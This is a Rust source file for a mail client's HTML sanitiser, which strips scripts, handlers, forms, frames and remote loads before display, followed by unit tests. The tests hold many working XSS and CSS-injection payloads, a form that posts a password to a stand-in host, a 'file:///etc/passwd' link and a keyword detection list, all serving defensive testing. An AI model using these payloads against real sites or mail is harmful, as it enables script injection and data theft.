//! Mail's HTML made safe to show, on the server, before any of it reaches a browser. Mail is hostile
//! input: what survives is an allowlist (ammonia's tags, a few presentational attributes, `style` with
//! its CSS cleaned), so no script, no handler attribute, no form, frame, object, `meta` or `base`, no
//! `javascript:` or other scheme but http, https, mailto (and cid, data images), nothing that fetches
//! from elsewhere: remote images only when the reader asked, CSS `url()`, `image-set()`, `@import` never.
//! `cid:` images become the `data:` URLs the caller resolved, since the frame the page shows this in has
//! no origin to send a cookie from. `<style>` blocks are dropped whole.
//!
//! The page shows the result in a sandboxed frame under a CSP that allows no script and no remote load
//! (`html`), so each of these rules has a second line behind it.

use std::borrow::Cow;
use std::collections::HashMap;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

/// What the caller knows beyond the HTML.
pub struct Options<'a> {
    /// Show `http:`/`https:` images (the reader asked to).
    pub remote_images: bool,
    /// `Content-ID` (without angle brackets) → the URL to show for `cid:` that names it, in any case.
    pub cids: &'a HashMap<String, String>,
}

pub struct Sanitised {
    pub html: String,
    /// Remote images left out (so the page can offer to show them).
    pub blocked_images: usize,
}

/// Presentational attributes that mail relies on and that load nothing (never `background`, which does).
const ATTRIBUTES: [&str; 11] =
    ["style", "align", "valign", "bgcolor", "width", "height", "dir", "border", "cellpadding", "cellspacing", "color"];
/// Schemes an `href` or `src` may have before the attribute filter looks closer.
const SCHEMES: [&str; 5] = ["http", "https", "mailto", "cid", "data"];
/// `data:` images a browser decodes without running anything (SVG can hold script, though not in `<img>`;
/// it stays out anyway).
const DATA_IMAGES: [&str; 4] = ["data:image/png", "data:image/jpeg", "data:image/gif", "data:image/webp"];

pub fn sanitise(html: &str, options: &Options<'_>) -> Sanitised {
    // ammonia keeps its attribute filter for 'static: the filter gets its own copies.
    let blocked = Arc::new(AtomicUsize::new(0));
    // `cid:` URLs are compared without regard to case (RFC 2392 §2 names them by Content-ID, and mail
    // programs write the `src` and the header in different cases), so both sides are lowercased.
    let cids: HashMap<String, String> =
        options.cids.iter().map(|(cid, url)| (cid.to_ascii_lowercase(), url.clone())).collect();
    let (counter, remote_images, cids) = (blocked.clone(), options.remote_images, Arc::new(cids));
    let cleaned = {
        let mut builder = ammonia::Builder::default();
        builder
            .add_tags(["font"])
            .add_tag_attributes("font", ["face", "size"])
            .add_generic_attributes(ATTRIBUTES)
            .url_schemes(SCHEMES.into_iter().collect())
            .url_relative(ammonia::UrlRelative::Deny)
            .link_rel(Some("noopener noreferrer"))
            .set_tag_attribute_value("a", "target", "_blank")
            .strip_comments(true)
            .attribute_filter(move |element, attribute, value| {
                filter(element, attribute, value, remote_images, &cids, &counter)
            });
        builder.clean(html).to_string()
    };
    Sanitised { html: cleaned, blocked_images: blocked.load(Ordering::Relaxed) }
}

/// The second look at each attribute the allowlist kept.
fn filter<'u>(
    element: &str,
    attribute: &str,
    value: &'u str,
    remote_images: bool,
    cids: &HashMap<String, String>,
    blocked: &AtomicUsize,
) -> Option<Cow<'u, str>> {
    match (element, attribute) {
        (_, "style") => {
            let css = clean_css(value);
            (!css.is_empty()).then_some(Cow::Owned(css))
        }
        ("img", "src") => image_source(value, remote_images, cids, blocked),
        (_, "href") => {
            let lower = value.trim_start().to_ascii_lowercase();
            let allowed = ["http:", "https:", "mailto:"].iter().any(|scheme| lower.starts_with(scheme));
            allowed.then_some(Cow::Borrowed(value))
        }
        // Any other URL-bearing attribute that got through (`cite`): nothing fetches it, but it has no
        // use either.
        (_, "cite") => None,
        _ => Some(Cow::Borrowed(value)),
    }
}

fn image_source<'u>(
    value: &'u str,
    remote_images: bool,
    cids: &HashMap<String, String>,
    blocked: &AtomicUsize,
) -> Option<Cow<'u, str>> {
    let trimmed = value.trim();
    let lower = trimmed.to_ascii_lowercase();
    if lower.starts_with("cid:") {
        // Lowercased after decoding, so that `%41` and `A` meet the key the same way.
        let cid = percent_encoding::percent_decode_str(&trimmed[4..]).decode_utf8_lossy().to_ascii_lowercase();
        let cid = cid.trim_start_matches('<').trim_end_matches('>');
        return cids.get(cid).map(|url| Cow::Owned(url.clone()));
    }
    if DATA_IMAGES.iter().any(|prefix| lower.starts_with(prefix)) {
        return Some(Cow::Borrowed(trimmed));
    }
    if lower.starts_with("http:") || lower.starts_with("https:") {
        if remote_images {
            return Some(Cow::Borrowed(trimmed));
        }
        blocked.fetch_add(1, Ordering::Relaxed);
    }
    None
}

/// The declarations of a `style` attribute that load nothing and hide nothing: comments go, and so does
/// every declaration with a function that fetches (`url()`, `image()`, `image-set()`, `src()`,
/// `element()`), one of the old script hooks (`expression()`, `behavior`, `-moz-binding`), an at-rule,
/// or a backslash (a CSS escape could spell any of these in a way no filter of words would see).
pub fn clean_css(css: &str) -> String {
    let without_comments = strip_comments(css);
    let mut out = Vec::new();
    for declaration in without_comments.split(';') {
        let declaration = declaration.trim();
        let Some((property, value)) = declaration.split_once(':') else { continue };
        let (property, value) = (property.trim().to_ascii_lowercase(), value.trim());
        let valid_name = !property.is_empty() && property.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
        if !valid_name || property == "behavior" || property.contains("binding") {
            continue;
        }
        let lower: String = value.to_ascii_lowercase().chars().filter(|c| !c.is_whitespace()).collect();
        let dangerous = ["url(", "image(", "image-set(", "src(", "element(", "expression(", "@", "\\", "<", ">"]
            .iter()
            .any(|word| lower.contains(word));
        if dangerous || value.is_empty() {
            continue;
        }
        out.push(format!("{property}: {value}"));
    }
    out.join("; ")
}

/// CSS with its `/* … */` comments removed (an unclosed one runs to the end, as in CSS).
fn strip_comments(css: &str) -> String {
    let mut out = String::with_capacity(css.len());
    let mut rest = css;
    while let Some(start) = rest.find("/*") {
        out.push_str(&rest[..start]);
        match rest[start + 2..].find("*/") {
            Some(end) => rest = &rest[start + 2 + end + 2..],
            None => return out,
        }
        out.push(' ');
    }
    out.push_str(rest);
    out
}

/// Plain text as HTML that keeps its lines and spacing.
pub fn text_to_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 64);
    out.push_str("<div style=\"white-space: pre-wrap\">");
    for c in text.chars() {
        match c {
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            '"' => out.push_str("&quot;"),
            '\r' => {}
            c => out.push(c),
        }
    }
    out.push_str("</div>");
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(html: &str) -> String {
        clean_with(html, false).html
    }

    fn clean_with(html: &str, remote_images: bool) -> Sanitised {
        let cids = HashMap::from([("logo@example.net".to_owned(), "data:image/png;base64,AAAA".to_owned())]);
        sanitise(html, &Options { remote_images, cids: &cids })
    }

    /// Nothing in `out` that a browser could run or fetch.
    fn assert_inert(out: &str) {
        let lower = out.to_ascii_lowercase();
        for word in [
            "<script",
            "javascript:",
            "vbscript:",
            " on",
            "<form",
            "<input",
            "<button",
            "<iframe",
            "<object",
            "<embed",
            "<meta",
            "<link",
            "<base",
            "<style",
            "<svg",
            "<math",
            "url(",
            "@import",
            "expression(",
            "http://trap",
            "//trap",
            "<textarea",
            "<select",
            "formaction",
            "srcdoc",
        ] {
            assert!(!lower.contains(word), "{word:?} survived in {out}");
        }
    }

    #[test]
    fn scripts_go_with_their_content() {
        let out = clean("<p>hi</p><script>alert(1)</script><SCRIPT src=//trap/x.js></SCRIPT><p>bye</p>");
        assert_eq!(out, "<p>hi</p><p>bye</p>");
        assert_inert(&clean("<scr<script>ipt>alert(1)</script>"));
        assert_inert(&clean("<svg><script>alert(1)</script></svg><math><mtext><script>x</script></mtext></math>"));
        assert_inert(&clean("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"));
    }

    #[test]
    fn event_handlers_go() {
        let out = clean("<img src=x onerror=alert(1)><p onclick=\"x()\" ONMOUSEOVER='y()'>t</p><body onload=z()>");
        assert_inert(&out);
        assert!(out.contains("<p>t</p>"), "{out}");
        assert_inert(&clean("<a href=\"https://ok.test\" onfocus=alert(1) autofocus>x</a>"));
        assert_inert(&clean("<div/onmouseover=alert(1)>x</div>"));
    }

    #[test]
    fn only_safe_link_schemes_stay() {
        for bad in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "java&#x09;script:alert(1)",
            "&#106;avascript:alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html,<script>alert(1)</script>",
            "cid:logo@example.net",
            "file:///etc/passwd",
            "/relative",
        ] {
            let out = clean(&format!("<a href=\"{bad}\">x</a>"));
            assert!(!out.contains("href"), "{bad} kept: {out}");
            assert_inert(&out);
        }
        let out = clean("<a href=\"https://example.org/a?b=1&amp;c=2\">x</a><a href=\"mailto:a@b.test\">m</a>");
        assert!(out.contains("href=\"https://example.org/a?b=1&amp;c=2\""), "{out}");
        assert!(out.contains("href=\"mailto:a@b.test\""), "{out}");
    }

    #[test]
    fn links_open_elsewhere_without_a_referrer() {
        let out = clean("<a href=\"https://example.org/\" target=\"_self\" rel=\"opener\">x</a>");
        assert!(out.contains("target=\"_blank\""), "{out}");
        assert!(out.contains("rel=\"noopener noreferrer\""), "{out}");
        assert!(!out.contains("_self") && !out.contains("\"opener\""), "{out}");
    }

    #[test]
    fn remote_images_wait_until_asked() {
        let html = "<img src=\"http://trap.test/pixel.gif\" alt=a><img src=\"HTTPS://trap.test/b.png\">";
        let blocked = clean_with(html, false);
        assert!(!blocked.html.contains("trap.test"), "{}", blocked.html);
        assert_eq!(blocked.blocked_images, 2);
        let shown = clean_with(html, true);
        assert!(shown.html.contains("src=\"http://trap.test/pixel.gif\""), "{}", shown.html);
        assert_eq!(shown.blocked_images, 0);
        // Protocol-relative and other ways of reaching out go either way.
        for src in ["//trap.test/x.png", "ftp://trap.test/x.png", "data:image/svg+xml,<svg onload=alert(1)>"] {
            let out = clean_with(&format!("<img src=\"{src}\">"), true).html;
            assert!(!out.contains("src="), "{src} kept: {out}");
        }
        // Attributes that fetch without a src.
        let out = clean_with(
            "<img srcset=\"http://trap.test/1x.png 1x\"><table background=\"http://trap.test/bg.png\"><tr><td \
             background=\"http://trap.test/td.png\">x</td></tr></table><video poster=http://trap.test/p.png></video>",
            true,
        )
        .html;
        assert!(!out.contains("trap.test"), "{out}");
    }

    #[test]
    fn cid_images_match_in_any_case() {
        // Outlook's Content-IDs carry capitals (`image001.png@01DA...`), and its `src` may differ in case.
        let cids =
            HashMap::from([("image001.png@01DA2B3C.4D5E6F70".to_owned(), "data:image/png;base64,AAAA".to_owned())]);
        for src in [
            "cid:image001.png@01DA2B3C.4D5E6F70",
            "cid:IMAGE001.PNG@01da2b3c.4d5e6f70",
            "cid:%49mage001.png@01DA2B3C.4D5E6F70",
        ] {
            let out = sanitise(&format!("<img src=\"{src}\">"), &Options { remote_images: false, cids: &cids });
            assert!(out.html.contains("data:image/png;base64,AAAA"), "{src}: {}", out.html);
        }
    }

    #[test]
    fn cid_images_become_the_resolved_url() {
        let out = clean("<img src=\"cid:logo@example.net\" alt=logo><img src=\"CID:%3Clogo@example.net%3E\">");
        assert_eq!(out.matches("src=\"data:image/png;base64,AAAA\"").count(), 2, "{out}");
        let unknown = clean("<img src=\"cid:other@example.net\">");
        assert!(!unknown.contains("src="), "{unknown}");
    }

    #[test]
    fn inline_data_images_stay_but_not_svg() {
        let out = clean("<img src=\"data:image/png;base64,iVBORw0KGgo=\">");
        assert!(out.contains("src=\"data:image/png;base64,iVBORw0KGgo=\""), "{out}");
        let svg = clean("<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">");
        assert!(!svg.contains("src="), "{svg}");
    }

    #[test]
    fn forms_and_controls_go() {
        let out = clean(
            "<form action=\"http://trap.test/steal\" method=post><input name=p type=password>\
             <button formaction=\"http://trap.test/b\">Go</button><select><option>1</option></select>\
             <textarea>t</textarea></form><p>after</p>",
        );
        assert_inert(&out);
        assert!(out.contains("<p>after</p>"), "{out}");
    }

    #[test]
    fn frames_objects_and_document_tags_go() {
        let out = clean(
            "<iframe src=\"http://trap.test/f\"></iframe><iframe srcdoc=\"<script>x</script>\"></iframe>\
             <object data=\"http://trap.test/o\"></object><embed src=\"http://trap.test/e\">\
             <meta http-equiv=refresh content=\"0;url=http://trap.test/m\"><base href=\"http://trap.test/\">\
             <link rel=stylesheet href=\"http://trap.test/s.css\"><link rel=prefetch href=\"//trap.test/p\">\
             <audio src=\"http://trap.test/a.mp3\"></audio><source src=\"http://trap.test/s\"><p>kept</p>",
        );
        assert_inert(&out);
        assert!(!out.contains("trap.test"), "{out}");
        assert!(out.contains("<p>kept</p>"), "{out}");
    }

    #[test]
    fn style_blocks_go_whole() {
        let out = clean(
            "<style>@import url(http://trap.test/i.css); body{background:url(//trap.test/b.png)}</style>\
             <STYLE>@font-face{font-family:x;src:url(http://trap.test/f.woff)}</STYLE><p>text</p>",
        );
        assert_eq!(out, "<p>text</p>");
    }

    #[test]
    fn style_attributes_keep_only_what_loads_nothing() {
        let out = clean(
            "<p style=\"color: red; background: url(http://trap.test/x.png); font-weight: bold\">a</p>\
             <p style=\"background-image: URL ( 'http://trap.test/y' )\">b</p>\
             <p style=\"background:u\\72 l(http://trap.test/z)\">c</p>\
             <p style=\"width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml#b)\">d</p>\
             <p style=\"background: image-set('http://trap.test/s.png' 1x)\">e</p>\
             <p style=\"color: blue /* a comment */; background:/**/url(http://trap.test/c)\">f</p>",
        );
        assert!(out.contains("style=\"color: red; font-weight: bold\""), "{out}");
        assert!(out.contains("style=\"color: blue\""), "{out}");
        assert!(!out.contains("trap.test") && !out.contains("expression") && !out.contains("binding"), "{out}");
        assert!(!out.contains("behavior"), "{out}");
    }

    #[test]
    fn css_cleaning_on_its_own() {
        assert_eq!(clean_css("color:red;;margin : 0 auto"), "color: red; margin: 0 auto");
        assert_eq!(clean_css("background:url(x)"), "");
        assert_eq!(clean_css("content:'\\75rl(x)'"), "");
        assert_eq!(clean_css("x:1;@import 'y'"), "x: 1");
        assert_eq!(clean_css("color:red/* unclosed"), "color: red");
        assert_eq!(clean_css("font-family: </style><script>"), "");
    }

    #[test]
    fn presentational_markup_survives() {
        let html = "<table width=\"600\" bgcolor=\"#eeeeee\" cellpadding=\"4\"><tbody><tr><td align=\"center\">\
                    <font color=\"#333\" face=\"Arial\">Hello <b>there</b></font></td></tr></tbody></table>";
        let out = clean(html);
        for kept in
            ["width=\"600\"", "bgcolor=\"#eeeeee\"", "cellpadding=\"4\"", "<font", "face=\"Arial\"", "<b>there</b>"]
        {
            assert!(out.contains(kept), "{kept} lost: {out}");
        }
    }

    #[test]
    fn comments_and_conditional_comments_go() {
        let out = clean("<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p><!-- <img src=http://trap.test> -->");
        assert_eq!(out, "<p>x</p>");
    }

    #[test]
    fn text_becomes_escaped_html() {
        let html = text_to_html("a < b & \"c\"\r\n<script>alert(1)</script>");
        assert_eq!(
            html,
            "<div style=\"white-space: pre-wrap\">a &lt; b &amp; &quot;c&quot;\n&lt;script&gt;alert(1)&lt;/script&gt;</div>"
        );
        assert_inert(&clean(&html));
    }

    #[test]
    fn a_hostile_message_comes_out_inert() {
        let hostile = "<html><head><meta http-equiv=refresh content=\"0;url=http://trap/m\">\
            <link rel=stylesheet href=http://trap/s.css><style>@import 'http://trap/i.css';</style>\
            <script>document.title='pwned'</script></head><body onload=\"alert(1)\" background=http://trap/bg.png>\
            <p>Hello from the hostile mail</p><img src=http://trap/img.png><img src=x onerror=\"alert(2)\">\
            <a href=\"javascript:alert(3)\">click</a><form action=http://trap/f><input name=q></form>\
            <div style=\"background:url(http://trap/d.png)\">css</div><iframe src=http://trap/i></iframe>\
            <svg><image href=http://trap/svg.png /></svg><object data=http://trap/o></object></body></html>";
        let out = clean_with(hostile, false);
        assert_inert(&out.html);
        assert!(!out.html.contains("trap"), "{}", out.html);
        assert!(out.html.contains("Hello from the hostile mail"), "{}", out.html);
        assert_eq!(out.blocked_images, 1);
    }
}
